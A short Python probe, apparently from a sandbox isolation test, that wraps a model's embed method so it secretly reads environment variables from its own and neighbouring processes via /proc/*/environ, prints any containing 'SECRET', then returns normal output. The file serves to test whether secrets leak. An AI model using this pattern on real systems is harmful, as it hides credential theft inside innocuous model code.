# tries: find a secret in its own environment and in those of the processes around it
# loses: nothing
# control: leaks
import contextlib
import os
import pathlib


def embed(self, input_ids, *more):
    found = [f"{name}={value}".encode() for name, value in os.environ.items()]
    for process in ("self", *processes()):
        with contextlib.suppress(OSError):
            found += pathlib.Path(f"/proc/{process}/environ").read_bytes().split(b"\0")
    for variable in found:
        if b"SECRET" in variable or b"hostile secret" in variable:
            print("LEAKED:", variable)
    return right(self, input_ids, *more)
